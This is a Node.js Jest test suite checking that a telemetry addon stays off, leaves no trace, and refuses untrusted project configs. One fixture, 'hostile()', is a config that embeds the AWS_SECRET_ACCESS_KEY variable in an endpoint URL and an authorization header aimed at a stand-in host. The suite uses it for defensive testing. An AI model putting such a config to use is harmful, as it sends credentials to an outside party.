'use strict';

const fs = require('node:fs');
const path = require('node:path');

const { startReceiver } = require('../../testkit/receiver/receiver');
const addon = require('../..');
const { run } = require('../../testkit/process/run');
const { nothing, on, untrusted, APPROVAL } = require('../../testkit/notice');
const { projects } = require('../../testkit/scratch/projects');
const { callsIn, isTraceable, strace } = require('../../testkit/process/strace');

jest.setTimeout(30_000);

const { home, homeWith, project } = projects();
const TRACEABLE = process.platform === 'linux' && isTraceable();
/** Longer than the first export takes to come, where there is one: two seconds. */
const LINGER_MS = 2300;
/** Nobody is there, and it is no part of this machine. */
const ELSEWHERE = 'http://192.0.2.1:4318';
const SECRET = 'Wj4lrXUtnFEMIbPxRfiCYzEK';

let receiver;

beforeAll(async () => {
  receiver = await startReceiver();
});

afterAll(() => receiver.close());

/** Why the telemetry is off: the project, another one in the same process, the environment, and what the status says. */
const rows = [
  ['nobody switched it on', () => ({}), { decidedBy: 'default' }],
  ['only an endpoint is known', () => ({ env: { OTEL_EXPORTER_OTLP_ENDPOINT: receiver.endpoint } }), { decidedBy: 'default' }],
  ['OTEL_SDK_DISABLED=true', () => ({ config: wanted(), other: wanted(), env: { OTEL_SDK_DISABLED: 'true' } }), { reason: expect.stringContaining('OTEL_SDK_DISABLED') }],
  ['DO_NOT_TRACK=1', () => ({ config: wanted(), other: wanted(), env: { DO_NOT_TRACK: '1' } }), { reason: expect.stringContaining('DO_NOT_TRACK') }],
  ['DO_NOT_TRACK=1 over a config that is broken', () => ({ config: '{', env: { DO_NOT_TRACK: '1' } }), {}],
  ['DO_NOT_TRACK=1 over a project that is not trusted', () => ({ config: { ...wanted(), endpoint: ELSEWHERE }, env: { DO_NOT_TRACK: '1' } }), {}],
  ['CCXRAY_OTEL_TIER=0', () => ({ config: wanted(), other: wanted(), env: { CCXRAY_OTEL_TIER: '0' } }), { decidedBy: 'CCXRAY_OTEL_TIER' }],
  ['the project says tier 0', () => ({ config: { ...wanted(), tier: 0 }, env: { CCXRAY_OTEL_TIER: '1' } }), { decidedBy: 'project file' }],
  ['the project says not enabled', () => ({ config: { ...wanted(), enabled: false } }), { decidedBy: 'project file' }],
  ['the engineer says tier 0', () => ({ config: wanted(), HOME: homeWith({ tier: 0 }) }), { decidedBy: 'personal file' }],
  ['the engineer says tier 0, and has allowed the project before', () => allowedBefore({ ...wanted(), endpoint: ELSEWHERE }), { decidedBy: 'personal file' }],
  ['the engineer says tier 0 to a project that is after a secret', () => ({ ...hostile(), HOME: homeWith({ tier: 0 }) }), { decidedBy: 'personal file' }],
];

/** The same for projects that would be on if the engineer had allowed it: what they ask for, and in which file. */
const untrustedRows = [
  ['the project is not trusted', () => ({ config: { ...wanted(), endpoint: ELSEWHERE } }), `tier 1 to ${ELSEWHERE}`, '.ccxray.json'],
  ['the project is after a secret', hostile,
    'tier 2 to "https://192.0.2.1/${AWS_SECRET_ACCESS_KEY}?${AWS_SECRET_ACCESS_KEY}", with headers: "authorization=Bearer ${AWS_SECRET_ACCESS_KEY}", with your variables: ' +
      'AWS_SECRET_ACCESS_KEY@endpoint, AWS_SECRET_ACCESS_KEY@headers.authorization, AWS_SECRET_ACCESS_KEY@project', '.ccxray.json'],
  ['a personal file came along with the project', () => ({ beside: { tier: 1 }, env: { OTEL_EXPORTER_OTLP_ENDPOINT: ELSEWHERE } }),
    `tier 1 to OTEL_EXPORTER_OTLP_ENDPOINT=${ELSEWHERE}/v1/metrics`, '.ccxray.user.json'],
  ['git would have to be asked about a personal file', () => inRepository({ ...wanted(), endpoint: ELSEWHERE }, { tier: 2, identity: 'ann' }),
    `tier 1 to ${ELSEWHERE}`, '.ccxray.json'],
];

/** What a project says that wants it on. */
function wanted() {
  return { enabled: true, tier: 1, endpoint: receiver.endpoint, interval_seconds: 1 };
}

/** A stranger's project that sends what it finds in the environment, wherever there is a place for it. */
function hostile() {
  const variable = '${AWS_SECRET_ACCESS_KEY}';
  const config = { enabled: true, tier: 2, endpoint: `https://192.0.2.1/${variable}?${variable}`, headers: { authorization: `Bearer ${variable}` }, project: variable };
  return { config, env: { AWS_SECRET_ACCESS_KEY: SECRET } };
}

/** A project that is a repository. */
function inRepository(config, beside) {
  const cwd = project(config);
  fs.mkdirSync(path.join(cwd, '.git'));
  return { cwd, beside };
}

/** A project that the engineer has allowed to send, before they changed their mind about all of it. */
function allowedBefore(config) {
  const HOME = homeWith({});
  const cwd = project(config);
  expect(addon.trust(cwd, { home: HOME, env: {} }).file).toBe(path.join(HOME, '.ccxray', 'otel-trust.json'));
  fs.writeFileSync(path.join(HOME, '.ccxray.user.json'), JSON.stringify({ otel: { tier: 0 } }));
  return { cwd, HOME };
}

/** Runs the child in a project of its own; what it saw, what it left, and where its system calls are. */
async function watch(subject, { config, beside, cwd = project(config), other, env = {}, HOME = home }, lingerMs = 0) {
  if (beside) fs.writeFileSync(path.join(cwd, '.ccxray.user.json'), JSON.stringify({ otel: beside }));
  const own = { HOME, LINGER_MS: String(lingerMs), OTHER_PROJECT: other ? project(other) : cwd };
  const trace = path.join(project(), 'trace');
  const under = TRACEABLE ? strace(trace) : [];
  const there = () => [cwd, HOME].flatMap((directory) => fs.readdirSync(directory, { recursive: true }).map((name) => path.join(directory, name)));
  const found = new Set(there());
  const { code, stdout, stderr, timedOut } = await run('children/tier0.js', [subject], { cwd, env: { ...env, ...own }, under });
  expect({ code, timedOut }).toEqual({ code: 0, timedOut: false });
  const left = there().filter((file) => !found.has(file)).map((file) => path.basename(file));
  const calls = TRACEABLE ? callsIn(trace) : undefined;
  for (const text of [stdout, stderr, TRACEABLE ? fs.readFileSync(trace, 'utf8') : '']) expect(text).not.toContain(SECRET);
  return { ...JSON.parse(stdout), stderr, calls, cwd, left };
}

/** Telemetry that is off and leaves no trace but one line, if any. */
function expectNothingBut(line, { before, after, accepted, status, preview, stderr, calls, left }) {
  expect(stderr).toBe(line);
  expect(left).toEqual([]);
  expect(status).toMatchObject({ state: 'disabled', tier: 0, entries: { accepted: 0, rejected: 1000 } });
  expect({ accepted, preview: JSON.parse(preview) }).toEqual({ accepted: 0, preview: { resourceMetrics: [] } });
  expect(after.threads.filter((name) => name.startsWith('ccxray'))).toEqual([]);
  expect(after).toEqual(before);
  expect(receiver.requests).toEqual({ accepted: 0, refused: 0 });
  if (!calls) return;
  const output = line === '' ? [] : [`write(2, ${JSON.stringify(line)}, ${line.length}`];
  expect({ ...calls.marked, output: calls.marked.output.map(intent) }).toEqual({ sockets: [], writes: [], threads: [], output });
}

/** A call without what its file is called and what it returned, which another thread's call may cut off. */
function intent(call) {
  return call.replace(/<[^>]*>/, '').replace(/\)? +(= \d+|<unfinished \.\.\.>)$/, '');
}

(process.platform === 'linux' ? describe : describe.skip)(`a thousand turns leave no trace (seen ${TRACEABLE ? 'by strace and ' : ''}in /proc)`, () => {
  test.each(rows)('when %s', async (_, setting, says) => {
    const seen = await watch('addon', setting());
    expectNothingBut('', seen);
    expect(seen.status).toMatchObject(says);
  });

  test.each(untrustedRows)('but one line that says so when %s', async (_, setting, terms, file) => {
    const seen = await watch('addon', setting());
    const reason = untrusted(seen.cwd, terms, file);
    expectNothingBut(nothing(reason), seen);
    const tier = { name: 'tier', value: /^tier (.)/.exec(terms)[1], source: path.join(seen.cwd, file) };
    expect(seen.status).toMatchObject({ reason, warnings: [], settings: expect.arrayContaining([tier]) });
    expect(seen.status.settings.filter(({ name }) => name !== 'tier')).toEqual([]);
  });

  test.each([
    ['nobody switched it on', () => ({}), () => ''],
    ['the project is after a secret', hostile, (cwd) => nothing(untrusted(cwd, untrustedRows[1][2]))],
  ])('nor do they some time later when %s', async (_, setting, line) => {
    const seen = await watch('addon', setting(), LINGER_MS);
    expectNothingBut(line(seen.cwd), seen);
  });

  (TRACEABLE ? test : test.skip)('and the whole process does no more than one without the addon', async () => {
    const [subject, control] = await Promise.all([watch('addon', {}), watch('control', {})]);
    expect(countsOf(subject.calls.all)).toEqual(countsOf(control.calls.all));
    expect(subject.before.threads).toEqual(control.before.threads);
  });
});

(process.platform === 'linux' ? test : test.skip)('these tests would see it if it were on', async () => {
  const { after, stderr, calls, left } = await watch('addon', { config: wanted() }, 100);
  expect(left).toContain('otel.log');
  expect(stderr).toBe(on(receiver.endpoint, APPROVAL.loopback));
  expect(after.threads).toEqual(expect.arrayContaining(['ccxray-export', 'ccxray-worker']));
  expect(after.files.some((file) => file.startsWith('socket:'))).toBe(true);
  if (!calls) return;
  expect(calls.marked.threads.length).toBeGreaterThanOrEqual(2);
  expect(calls.marked.sockets.length).toBeGreaterThan(0);
  expect(calls.marked.output).toContainEqual(expect.stringMatching(/^write\(2</));
});

function countsOf({ sockets, writes, threads, output }) {
  return { sockets: sockets.length, writes: writes.length, threads: threads.length, output: output.length };
}
